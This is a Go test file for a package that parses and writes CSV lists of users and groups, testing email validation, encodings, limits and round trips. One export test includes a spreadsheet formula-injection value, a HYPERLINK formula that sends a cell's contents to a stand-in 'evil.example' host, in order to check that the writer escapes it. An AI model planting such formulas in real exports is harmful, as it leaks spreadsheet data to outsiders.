package scope

import (
	"bytes"
	"errors"
	"fmt"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"
)

func entries(rowsAndValues ...any) []Entry {
	var out []Entry
	for i := 0; i < len(rowsAndValues); i += 2 {
		out = append(out, Entry{Row: rowsAndValues[i].(int), Value: rowsAndValues[i+1].(string)})
	}
	return out
}

// refusal asserts that err is a *Error whose Error() contains every want string.
func refusal(t *testing.T, err error, want ...string) *Error {
	t.Helper()
	var e *Error
	if !errors.As(err, &e) {
		t.Fatalf("Parse error = %v (%T), want *scope.Error", err, err)
	}
	if e.Message == "" {
		t.Fatalf("empty message in %#v", e)
	}
	for _, w := range want {
		if !strings.Contains(e.Error(), w) {
			t.Errorf("error %q\ndoes not contain %q", e.Error(), w)
		}
	}
	return e
}

func TestParseKind(t *testing.T) {
	for in, want := range map[string]Kind{"all": All, "users": Users, " Groups ": Groups, "USERS": Users} {
		if got, err := ParseKind(in); err != nil || got != want {
			t.Errorf("ParseKind(%q) = %q, %v; want %q", in, got, err, want)
		}
	}
	for _, in := range []string{"", "user", "everyone"} {
		_, err := ParseKind(in)
		if err == nil || !strings.Contains(err.Error(), `"all", "users" or "groups"`) {
			t.Errorf("ParseKind(%q) error = %v, want one listing the kinds", in, err)
		}
	}
}

func TestParseAllIsRefused(t *testing.T) {
	_, err := Parse(strings.NewReader("Email\na@example.com\n"), All)
	refusal(t, err, `"all" takes no CSV`)
}

// R2.2: at most 1,000 entries.
func TestParseLimit(t *testing.T) {
	users := func(n int, extra string) string {
		var b strings.Builder
		b.WriteString("Email\n")
		for i := range n {
			fmt.Fprintf(&b, "user%d@example.com\n", i)
		}
		b.WriteString(extra)
		return b.String()
	}
	tests := []struct {
		name    string
		csv     string
		kind    Kind
		want    int      // entries when accepted
		refused []string // parts of the error when refused
	}{
		{name: "exactly 1000", csv: users(1000, ""), kind: Users, want: 1000},
		{name: "1001", csv: users(1001, ""), kind: Users, refused: []string{"1,001 different users", "at most 1,000"}},
		{name: "5000", csv: users(5000, ""), kind: Users, refused: []string{"5,000 different users", "at most 1,000"}},
		{name: "1000 plus repeats", csv: users(1000, "USER1@example.com\nuser2@example.com\n"), kind: Users, want: 1000},
		{name: "1000 plus blank rows", csv: users(1000, "\n,\n  \n"), kind: Users, want: 1000},
		{name: "1001 groups", csv: "Groups\n" + func() string {
			var b strings.Builder
			for i := range 1001 {
				fmt.Fprintf(&b, "Group %d\n", i)
			}
			return b.String()
		}(), kind: Groups, refused: []string{"1,001 different groups", "at most 1,000"}},
		{name: "too many and bad rows", csv: users(1001, "nope\n"), kind: Users, refused: []string{"1,001 different users", `row 1003: "nope" is not an email address`}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(strings.NewReader(tt.csv), tt.kind)
			if tt.refused != nil {
				refusal(t, err, tt.refused...)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if len(l.Entries) != tt.want {
				t.Errorf("got %d entries, want %d", len(l.Entries), tt.want)
			}
		})
	}
}

// R2.4: users come from Email or Email Address; each bad row is named.
func TestParseUsers(t *testing.T) {
	tests := []struct {
		name    string
		csv     string
		want    List
		refused []string
		rows    []RowError
	}{
		{
			name: "Email column",
			csv:  "Email\nalice@example.com\nbob@corp.example.org\n",
			want: List{Kind: Users, Entries: entries(2, "alice@example.com", 3, "bob@corp.example.org")},
		},
		{
			name: "Email Address among other columns",
			csv:  "Name,Email Address,Department\nAlice,alice@example.com,Sales\nBob,  bob@example.com ,IT\n",
			want: List{Kind: Users, Entries: entries(2, "alice@example.com", 3, "bob@example.com")},
		},
		{
			name: "leftmost of two qualifying columns",
			csv:  "Email Address,Email\na@example.com,b@example.com\n",
			want: List{Kind: Users, Entries: entries(2, "a@example.com")},
		},
		{
			name: "case kept, repeats compared case-insensitively",
			csv:  "Email\nAlice@Example.com\nalice@example.COM\nbob@example.com\n",
			want: List{Kind: Users, Entries: entries(2, "Alice@Example.com", 4, "bob@example.com"),
				Duplicates: []Duplicate{{Row: 3, Value: "alice@example.COM", FirstRow: 2}}},
		},
		{
			name: "blank rows skipped, rows with other cells noted",
			csv:  "Name,Email\nAlice,alice@example.com\n,\n\nBob,\nCarol\n  ,  \nDan,dan@example.com\n",
			want: List{Kind: Users, Entries: entries(2, "alice@example.com", 8, "dan@example.com"), EmptyValueRows: []int{5, 6}},
		},
		{
			name: "plus addressing and unicode",
			csv:  "Email\nfirst.last+tag@example.co.uk\nJosé@exämple.com\n",
			want: List{Kind: Users, Entries: entries(2, "first.last+tag@example.co.uk", 3, "José@exämple.com")},
		},
		{
			name:    "each bad row named",
			csv:     "Email\nalice@example.com\nbob(at)corp.com\nBob <bob@corp.com>\ncarol@corp\na@b@corp.com\n@corp.com\ndan@\ndan@[10.0.0.1]\ne..f@corp.com\ng@corp..com\nh i@corp.com\n\"\"\"a b\"\"@corp.com\"\n" + strings.Repeat("a", 246) + "@corp.com\n",
			refused: []string{"12 rows are not email addresses:\n", `row 3: "bob(at)corp.com" is not an email address (it has no @)`},
			rows: []RowError{
				{Row: 3, Value: "bob(at)corp.com", Reason: "is not an email address (it has no @)"},
				{Row: 4, Value: "Bob <bob@corp.com>", Reason: "is not an email address (write the address alone, without a name, spaces, quotes or < >)"},
				{Row: 5, Value: "carol@corp", Reason: `is not an email address (the domain "corp" has no dot)`},
				{Row: 6, Value: "a@b@corp.com", Reason: "is not an email address (it has more than one @)"},
				{Row: 7, Value: "@corp.com", Reason: "is not an email address (nothing comes before the @)"},
				{Row: 8, Value: "dan@", Reason: "is not an email address (nothing comes after the @)"},
				{Row: 9, Value: "dan@[10.0.0.1]", Reason: "is not an email address (the part after the @ must be a domain name such as example.com)"},
				{Row: 10, Value: "e..f@corp.com", Reason: "is not an email address"},
				{Row: 11, Value: "g@corp..com", Reason: "is not an email address"},
				{Row: 12, Value: "h i@corp.com", Reason: "is not an email address (write the address alone, without a name, spaces, quotes or < >)"},
				{Row: 13, Value: `"a b"@corp.com`, Reason: "is not an email address (write the address alone, without a name, spaces, quotes or < >)"},
				{Row: 14, Value: strings.Repeat("a", 80) + "…", Reason: "is not an email address (it is 255 bytes long; an address has at most 254)"},
			},
		},
		{
			name:    "one bad row",
			csv:     "Email\nx\n",
			refused: []string{"1 row is not an email address:\nrow 2: \"x\" is not an email address (it has no @)"},
		},
		{
			name:    "header missing",
			csv:     "Name,Mail\nAlice,alice@example.com\n",
			refused: []string{`no "Email" or "Email Address" column`, `"Name", "Mail"`},
		},
		{
			name:    "no header row at all",
			csv:     "alice@example.com\nbob@example.com\n",
			refused: []string{`first row holds an address, not headers`, `add a first row with the header "Email" above the addresses`},
		},
		{
			name:    "group header for users",
			csv:     "Group Name\nSales\n",
			refused: []string{`no "Email" or "Email Address" column`, `"Group Name"`},
		},
		{name: "header only", csv: " email \n", refused: []string{`the file has no user rows: put one email address per row under the "email" header`}},
		{name: "no header row, address in second column", csv: "Alice,alice@example.com\n", refused: []string{`first row holds an address`}},
		{name: "only blank rows", csv: "Email,Name\n,\n\n , \n", refused: []string{"the file has no user rows"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(strings.NewReader(tt.csv), Users)
			if tt.refused != nil {
				e := refusal(t, err, tt.refused...)
				if tt.rows != nil {
					if diff := cmp.Diff(tt.rows, e.Rows); diff != "" {
						t.Errorf("rows (-want +got):\n%s", diff)
					}
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, l); diff != "" {
				t.Errorf("Parse (-want +got):\n%s", diff)
			}
		})
	}
}

// R2.5: groups come from Group Name or Groups and keep the vendor's spelling.
func TestParseGroups(t *testing.T) {
	tests := []struct {
		name    string
		csv     string
		want    List
		refused []string
	}{
		{
			name: "Group Name",
			csv:  "Group Name\nSales\nEngineering  Team\n",
			want: List{Kind: Groups, Entries: entries(2, "Sales", 3, "Engineering  Team")},
		},
		{
			name: "Groups among other columns, outer spaces trimmed",
			csv:  "id,Groups,owner\n1,  Finance ,x\n2,finance,y\n",
			want: List{Kind: Groups, Entries: entries(2, "Finance", 3, "finance")},
		},
		{
			name: "exact repeats skipped",
			csv:  "Groups\nSales\nSales\n sales\n",
			want: List{Kind: Groups, Entries: entries(2, "Sales", 4, "sales"),
				Duplicates: []Duplicate{{Row: 3, Value: "Sales", FirstRow: 2}}},
		},
		{
			name: "names with commas, quotes and symbols",
			csv:  "Group Name\n\"Sales, EMEA\"\n\"The \"\"A\"\" Team\"\nR&D / Ops (2024)\n=SUM(A1)\n",
			want: List{Kind: Groups, Entries: entries(2, "Sales, EMEA", 3, `The "A" Team`, 4, "R&D / Ops (2024)", 5, "=SUM(A1)")},
		},
		{
			name:    "neither header",
			csv:     "Group,Members\nSales,3\n",
			refused: []string{`no "Group Name" or "Groups" column`, `"Group", "Members"`},
		},
		{
			name:    "line break inside a name",
			csv:     "Groups\n\"Sales\nEMEA\"\nIT\n",
			refused: []string{"1 row is not a usable group name", `row 2: "Sales\nEMEA" contains a line break`},
		},
		{name: "header only", csv: "Group Name\r\n", refused: []string{"the file has no group rows"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(strings.NewReader(tt.csv), Groups)
			if tt.refused != nil {
				refusal(t, err, tt.refused...)
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, l); diff != "" {
				t.Errorf("Parse (-want +got):\n%s", diff)
			}
		})
	}
}

// R2.9: encodings, line ends, quoting and header spelling; bad files are refused whole.
func TestParseFormats(t *testing.T) {
	two := List{Kind: Users, Entries: entries(2, "a@example.com", 3, "b@example.com")}
	tests := []struct {
		name    string
		csv     string
		want    List
		refused []string
	}{
		{name: "BOM", csv: "\uFEFFEmail\na@example.com\nb@example.com\n", want: two},
		{name: "CRLF", csv: "Email\r\na@example.com\r\nb@example.com\r\n", want: two},
		{name: "CR only", csv: "Email\ra@example.com\rb@example.com\r", want: two},
		{name: "no final newline", csv: "Email\na@example.com\nb@example.com", want: two},
		{name: "trailing empty lines", csv: "Email\na@example.com\nb@example.com\n\n\r\n", want: two},
		{name: "BOM, CRLF, quotes together", csv: "\uFEFF\"Name\",\"Email\"\r\n\"Doe, Jane\",\"a@example.com\"\r\n\"O\"\"Brien\",b@example.com\r\n", want: two},
		{name: "header case and spaces", csv: "  eMaIl aDDRESS \t,x\na@example.com,1\nb@example.com,2\n", want: two},
		{name: "quoted header with spaces", csv: "\" EMAIL \"\na@example.com\nb@example.com\n", want: two},
		{name: "space after comma before quote", csv: "Name, Email\nx, \"a@example.com\"\ny, b@example.com\n", want: two},
		{name: "ragged rows", csv: "Email,Name,Dept\na@example.com\nb@example.com,B,C,D,E\n", want: two},
		{name: "semicolons", csv: "Name;Email\n\"Doe, Jane\";a@example.com\nB;b@example.com\n", want: two},
		{name: "leading blank lines count as rows", csv: "\n\nEmail\na@example.com\n",
			want: List{Kind: Users, Entries: entries(4, "a@example.com")}},
		{name: "multi-line quoted cell is one row", csv: "Note,Email\n\"two\nlines\",a@example.com\nx,b@example.com\n", want: two},
		{name: "empty", csv: "", refused: []string{"the file is empty"}},
		{name: "only spaces", csv: " \r\n\n", refused: []string{"the file is empty"}},
		{name: "only BOM", csv: "\uFEFF", refused: []string{"the file is empty"}},
		{name: "bare quote", csv: "Email\na@example.com\nb\"c@example.com\n", refused: []string{`line 3 is not valid CSV: a " appears inside a value`}},
		{name: "unclosed quote", csv: "Email\na@example.com\n\"b@example.com\nc@example.com\n", refused: []string{"line 4 is not valid CSV", "starts on line 3 is not closed"}},
		{name: "text after closing quote", csv: "Email\n\"a@example.com\"x\n", refused: []string{"line 2 is not valid CSV: a quoted value is not closed properly"}},
		{name: "bad quote in header", csv: "Em\"ail\n", refused: []string{"line 1 is not valid CSV"}},
		{name: "Latin-1", csv: "Email\nJos\xe9@example.com\n", refused: []string{"not UTF-8 text (line 2"}},
		{name: "UTF-16", csv: "\xff\xfeE\x00m\x00", refused: []string{"UTF-16"}},
		{name: "xlsx", csv: "PK\x03\x04\x14\x00", refused: []string{"workbook"}},
		{name: "too big", csv: "Email\n" + strings.Repeat("a", MaxFileSize), refused: []string{"larger than 8 MiB"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			l, err := Parse(strings.NewReader(tt.csv), Users)
			if tt.refused != nil {
				refusal(t, err, tt.refused...)
				if l.Entries != nil {
					t.Errorf("refused parse returned entries %v", l.Entries)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, l); diff != "" {
				t.Errorf("Parse (-want +got):\n%s", diff)
			}
		})
	}
}

// R2.10: the downloaded CSV parses back to the same list.
func TestWriteRoundTrip(t *testing.T) {
	tests := []struct {
		name string
		l    List
		want string
	}{
		{
			name: "users",
			l:    List{Kind: Users, Entries: entries(2, "alice@example.com", 5, "Bob@Example.org")},
			want: "Email\r\nalice@example.com\r\nBob@Example.org\r\n",
		},
		{
			name: "groups that need quoting",
			l:    List{Kind: Groups, Entries: entries(2, "Sales, EMEA", 3, `The "A" Team`, 4, "plain", 5, "José's  group")},
			want: "Group Name\r\n\"Sales, EMEA\"\r\n\"The \"\"A\"\" Team\"\r\nplain\r\nJosé's  group\r\n",
		},
		{
			// A spreadsheet would run these as formulas: written with a quote in front, read back
			// without it (defect 3 of issue 12).
			name: "groups that look like formulas",
			l:    List{Kind: Groups, Entries: entries(2, "-Contractors", 3, `=HYPERLINK("http://evil.example/?x="&A1,"x")`, 4, "+Plus", 5, "@Team", 6, "'quoted", 7, "a=b")},
			want: "Group Name\r\n'-Contractors\r\n\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"x\"\")\"\r\n'+Plus\r\n'@Team\r\n'quoted\r\na=b\r\n",
		},
		{
			name: "users that look like formulas",
			l:    List{Kind: Users, Entries: entries(2, "-ops@example.com", 3, "=eq@example.com", 4, "+plus@example.com")},
			want: "Email\r\n'-ops@example.com\r\n'=eq@example.com\r\n'+plus@example.com\r\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			var b bytes.Buffer
			if err := Write(&b, tt.l); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, b.String()); diff != "" {
				t.Errorf("Write (-want +got):\n%s", diff)
			}
			back, err := Parse(&b, tt.l.Kind)
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.l.Entries, back.Entries, cmpopts.IgnoreFields(Entry{}, "Row")); diff != "" {
				t.Errorf("round trip (-want +got):\n%s", diff)
			}
		})
	}
	if err := Write(&bytes.Buffer{}, List{Kind: All}); err == nil {
		t.Error("Write of kind all succeeded")
	}
}

func TestSummary(t *testing.T) {
	for _, tt := range []struct {
		l    List
		want string
	}{
		{List{Kind: All}, "all users"},
		{List{Kind: Users, Entries: entries(2, "a@example.com")}, "1 user"},
		{List{Kind: Groups, Entries: entries(2, "a", 3, "b"), Duplicates: []Duplicate{{}}, EmptyValueRows: []int{4, 5}},
			"2 groups (1 repeated row and 2 rows without a group name skipped)"},
		{List{Kind: Users, Entries: make([]Entry, 1000), EmptyValueRows: []int{4}}, "1,000 users (1 row without an email skipped)"},
	} {
		if got := tt.l.Summary(); got != tt.want {
			t.Errorf("Summary() = %q, want %q", got, tt.want)
		}
	}
}

// TestRefusalIsBounded: a refusal lists the first MaxRowErrors bad rows with shortened values and
// counts them all. Before, a 7 MB file of bad rows made a 7 MB error.
func TestRefusalIsBounded(t *testing.T) {
	bad := strings.Repeat("not an address "+strings.Repeat("y", 200)+"\n", 30_000)
	_, err := Parse(strings.NewReader("Email\n"+bad), Users)
	var e *Error
	if !errors.As(err, &e) {
		t.Fatalf("got %v", err)
	}
	if len(e.Rows) != MaxRowErrors || !strings.Contains(e.Message, "30,000 rows are not email addresses (the first 100 are listed)") || len(e.Error()) > 32<<10 {
		t.Errorf("%d rows, %d bytes: %.300s", len(e.Rows), len(e.Error()), e.Message)
	}
	if v := e.Rows[0].Value; !strings.HasSuffix(v, "…") || utf8.RuneCountInString(v) != maxEcho+1 {
		t.Errorf("echoed value %q", v)
	}
	_, err = Parse(strings.NewReader(strings.Repeat("h", 1<<20)+"\na@example.com\n"), Users)
	if err == nil || len(err.Error()) > 4<<10 {
		t.Errorf("a 1 MB header: %d bytes", len(err.Error()))
	}
}

func FuzzParse(f *testing.F) {
	seeds := []string{
		"Email\na@example.com\nb@example.com\n",
		"\uFEFFName,Email Address\r\n\"Doe, Jane\",jane@example.com\r\n,\r\n",
		"Group Name\n\"Sales, EMEA\"\n\"The \"\"A\"\" Team\"\nSales\n",
		"Groups;x\nA;1\n",
		"Email\nbob(at)corp.com\nBob <bob@corp.com>\n",
		"Email\n\"a@example.com\nb\n",
		"Email\na\"b\n",
		"\n\nEmail\r\r\na@b.co\r",
		"Email\nJos\xe9@example.com\n",
		"",
	}
	for _, s := range seeds {
		f.Add([]byte(s), false)
		f.Add([]byte(s), true)
	}
	f.Fuzz(func(t *testing.T, data []byte, groups bool) {
		kind := Users
		if groups {
			kind = Groups
		}
		l, err := Parse(bytes.NewReader(data), kind)
		if err != nil {
			var e *Error
			if !errors.As(err, &e) {
				t.Fatalf("error %v is a %T, not *Error", err, err)
			}
			if strings.TrimSpace(e.Message) == "" || !utf8.ValidString(e.Error()) {
				t.Fatalf("refusal without a usable message: %#v", e)
			}
			// Bounded whatever the input: at most MaxRowErrors rows, each value shortened.
			if len(e.Rows) > MaxRowErrors || len(e.Error()) > 64<<10 {
				t.Fatalf("a %d-byte input got a %d-byte refusal with %d rows", len(data), len(e.Error()), len(e.Rows))
			}
			for _, r := range e.Rows {
				if r.Row < 2 || r.Reason == "" {
					t.Fatalf("bad row error %#v", r)
				}
			}
			if l.Entries != nil {
				t.Fatalf("refusal with entries")
			}
			return
		}
		if l.Kind != kind {
			t.Fatalf("kind %q, want %q", l.Kind, kind)
		}
		if n := len(l.Entries); n == 0 || n > MaxEntries {
			t.Fatalf("accepted %d entries", n)
		}
		seen := map[string]bool{}
		prev := 1
		for _, e := range l.Entries {
			if e.Row <= prev {
				t.Fatalf("rows not increasing: %v", l.Entries)
			}
			prev = e.Row
			if e.Value == "" || e.Value != strings.TrimSpace(e.Value) {
				t.Fatalf("untrimmed or empty value %q", e.Value)
			}
			key := e.Value
			if kind == Users {
				if reason := checkEmail(e.Value); reason != "" {
					t.Fatalf("accepted %q which %s", e.Value, reason)
				}
				key = strings.ToLower(key)
			}
			if seen[key] {
				t.Fatalf("duplicate %q accepted", e.Value)
			}
			seen[key] = true
		}
		var b bytes.Buffer
		if err := Write(&b, l); err != nil {
			t.Fatalf("Write: %v", err)
		}
		back, err := Parse(&b, kind)
		if err != nil {
			t.Fatalf("Parse(Write(l)): %v\n%q", err, b.String())
		}
		if diff := cmp.Diff(l.Entries, back.Entries, cmpopts.IgnoreFields(Entry{}, "Row")); diff != "" {
			t.Fatalf("round trip (-first +second):\n%s", diff)
		}
		if back.Duplicates != nil || back.EmptyValueRows != nil {
			t.Fatalf("round trip found skipped rows: %+v", back)
		}
	})
}
